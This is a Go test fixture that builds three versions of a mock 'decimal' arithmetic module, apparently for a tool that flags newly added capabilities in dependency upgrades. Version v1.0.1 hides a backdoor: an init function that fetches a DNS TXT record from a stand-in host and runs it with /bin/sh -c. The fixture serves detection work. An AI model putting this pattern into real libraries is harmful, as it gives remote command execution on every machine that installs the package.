package testkit

import "testing"

// decimalV100 is example.test/decimal's arithmetic: no capability at all.
const decimalV100 = `// Package decimal is fixed-point arithmetic.
package decimal

// Decimal is units × 10^-2.
type Decimal struct{ units int64 }

// New returns units/100.
func New(units int64) Decimal { return Decimal{units} }

// Add returns d+e.
func (d Decimal) Add(e Decimal) Decimal { return Decimal{d.units + e.units} }
`

// decimalV101 is v1.0.0 with what github.com/shopsprint/decimal v1.3.3 added
// (issue 13): an init function that starts a goroutine which looks up a DNS
// TXT record and runs what it says.
const decimalV101 = `// Package decimal is fixed-point arithmetic.
package decimal

import (
	"context"
	"net"
	"os/exec"
)

// Decimal is units × 10^-2.
type Decimal struct{ units int64 }

func init() { go poll() }

func poll() {
	txt, err := net.LookupTXT("cfg.decimal.example.test")
	if err != nil || len(txt) == 0 {
		return
	}
	exec.CommandContext(context.Background(), "/bin/sh", "-c", txt[0]).Run()
}

// New returns units/100.
func New(units int64) Decimal { return Decimal{units} }

// Add returns d+e.
func (d Decimal) Add(e Decimal) Decimal { return Decimal{d.units + e.units} }
`

// DecimalLines are where v1.0.1's capabilities are: its init function, the
// DNS lookup (NETWORK) and the command (EXEC), in decimal.go.
var DecimalLines = struct{ Init, Network, Exec int }{13, 16, 20}

// Decimal builds the fixture of issue 13: example.test/decimal v1.0.0 (pure
// arithmetic), v1.0.1 (adds "func init() { go poll() }" with net.LookupTXT
// and exec.Command) and v1.0.2 (v1.0.0 again), in that order.
func Decimal(t testing.TB) []*Built {
	t.Helper()
	mk := func(v, src string) *Built {
		return Build(t, Module{Path: "example.test/decimal", Version: v, Files: map[string]string{
			"decimal.go": src, "LICENSE": "MIT License\n"}})
	}
	return []*Built{mk("v1.0.0", decimalV100), mk("v1.0.1", decimalV101), mk("v1.0.2", decimalV100)}
}
